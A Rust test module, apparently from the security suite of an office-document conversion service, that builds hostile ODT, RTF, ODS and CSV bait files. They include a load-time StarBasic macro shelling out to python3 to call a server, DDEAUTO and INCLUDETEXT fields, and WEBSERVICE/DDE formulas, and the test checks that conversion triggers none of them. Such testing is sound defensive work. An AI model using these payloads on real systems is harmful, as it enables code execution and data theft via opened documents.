//! Office documents that start something, or show what is elsewhere.
use super::Bait;
use crate::{
    support::{checks::Check, stage::Stage},
    tools::documents::package,
};
use serde_json::json;

pub const ALL: &[Check] =
    &[Check::new("texts lead nowhere and start nothing", texts), Check::new("nor do tables", tables)];

const ODT: &str = "application/vnd.oasis.opendocument.text";
const ODS: &str = "application/vnd.oasis.opendocument.spreadsheet";

/// An `OpenDocument` file with this body, and a macro that runs when it is opened.
fn open(mime: &str, body: &str, bait: &Bait) -> Vec<u8> {
    let names = ["office", "text", "table", "draw", "script"].map(|name| {
        let of = if name == "draw" { "drawing" } else { name };
        format!("xmlns:{name}='urn:oasis:names:tc:opendocument:xmlns:{of}:1.0' ")
    });
    let links = "xmlns:xlink='http://www.w3.org/1999/xlink' xmlns:dom='http://www.w3.org/2001/xml-events'";
    let event = "<office:scripts><office:event-listeners><script:event-listener script:language='ooo:script' script:event-name='dom:load' xlink:href='vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document'/></office:event-listeners></office:scripts>";
    let content = format!(
        "<office:document-content {} {links} office:version='1.3'>{event}<office:body>{body}</office:body></office:document-content>",
        names.concat()
    );
    let library = "http://openoffice.org/2000/library";
    let code = format!(
        "<script:module xmlns:script='http://openoffice.org/2000/script' script:name='Module1' script:language='StarBasic'>Sub Main\nShell(&quot;/usr/bin/python3&quot;, 0, &quot;-c 'import urllib.request as u; u.urlopen(\\&quot;{}\\&quot;)'&quot;, True)\nEnd Sub</script:module>",
        bait.server()
    );
    let entry =
        |path: &str, mime: &str| format!("<m:file-entry m:full-path='{path}' m:media-type='{mime}'/>");
    let all =
        ["content.xml", "Basic/script-lc.xml", "Basic/Standard/script-lb.xml", "Basic/Standard/Module1.xml"];
    let list: String = all.iter().map(|path| entry(path, "text/xml")).collect();
    package(&[
        ("mimetype", mime),
        ("content.xml", &content),
        (
            "Basic/script-lc.xml",
            &format!(
                "<library:libraries xmlns:library='{library}' xmlns:xlink='http://www.w3.org/1999/xlink'><library:library library:name='Standard' library:link='false'/></library:libraries>"
            ),
        ),
        (
            "Basic/Standard/script-lb.xml",
            &format!(
                "<library:library xmlns:library='{library}' library:name='Standard' library:readonly='false' library:passwordprotected='false'><library:element library:name='Module1'/></library:library>"
            ),
        ),
        ("Basic/Standard/Module1.xml", &code),
        (
            "META-INF/manifest.xml",
            &format!(
                "<m:manifest xmlns:m='urn:oasis:names:tc:opendocument:xmlns:manifest:1.0'>{}{list}</m:manifest>",
                entry("/", mime)
            ),
        ),
    ])
}

fn texts(stage: &Stage) {
    let bait = Bait::laid();
    let linked = [bait.file(), bait.server()].map(|to| format!("<text:section text:name='{to}'><text:section-source xlink:href='{to}' xlink:type='simple'/><text:p>x</text:p></text:section><text:p><draw:frame><draw:image xlink:href='{to}' xlink:type='simple' xlink:actuate='onLoad'/></draw:frame><draw:frame><draw:object xlink:href='{to}' xlink:type='simple'/></draw:frame></text:p>"));
    let odt =
        open(ODT, &format!("<office:text><text:p>before</text:p>{}</office:text>", linked.concat()), &bait);
    let rtf = format!(
        "{{\\rtf1{{\\*\\template {}}} before {{\\field{{\\*\\fldinst INCLUDETEXT \"{}\"}}{{\\fldrslt y}}}}{{\\field{{\\*\\fldinst DDEAUTO soffice \"{}\" a}}{{\\fldrslt z}}}}}}",
        bait.server(),
        bait.path().display(),
        bait.path().display()
    );
    for (name, mime, content) in
        [("-a.odt", ODT, odt.as_slice()), ("a.rtf", "application/rtf", rtf.as_bytes())]
    {
        for (tool, options) in [("office-to-pdf", json!({})), ("office-convert", json!({"format": "docx"}))] {
            let made = bait.offer(stage, tool, options, (name, mime, content));
            assert!(made.is_some(), "{tool} of {name}");
        }
    }
}

fn tables(stage: &Stage) {
    let bait = Bait::laid();
    let (file, server, path) = (bait.file(), bait.server(), bait.path().display());
    let formulas = [
        format!("WEBSERVICE(\"{server}\")"),
        format!("WEBSERVICE(\"{file}\")"),
        format!("DDE(\"soffice\";\"{path}\";\"a\")"),
        format!("'{file}'#$Sheet1.A1"),
        format!("HYPERLINK(\"{server}\")"),
    ];
    let cell = |formula: &String| {
        format!(
            "<table:table-cell table:formula='of:={}'/>",
            formula.replace('"', "&quot;").replace('\'', "&apos;")
        )
    };
    let row: String = formulas.iter().map(cell).collect();
    let source = [&file, &server].map(|to| format!("<table:table table:name='{}'><table:table-source table:mode='copy-all' table:table-name='a' xlink:href='{to}' xlink:type='simple' table:filter-name='Text - txt - csv (StarCalc)'/><table:table-row><table:table-cell/></table:table-row></table:table>", to.len()));
    let body = format!(
        "<office:spreadsheet><table:table table:name='a'><table:table-row><table:table-cell office:value-type='string'><text:p>before</text:p></table:table-cell>{row}</table:table-row></table:table>{}</office:spreadsheet>",
        source.concat()
    );
    let csv: String =
        formulas.iter().map(|formula| format!("\"={}\"\n", formula.replace('"', "\"\""))).collect();
    let ods = open(ODS, &body, &bait);
    for (name, mime, content) in [("a.ods", ODS, ods.as_slice()), ("=a.csv", "text/csv", csv.as_bytes())] {
        for (tool, options) in [("office-to-pdf", json!({})), ("office-convert", json!({"format": "xlsx"}))] {
            let made = bait.offer(stage, tool, options, (name, mime, content));
            assert!(made.is_some(), "{tool} of {name}");
        }
    }
}
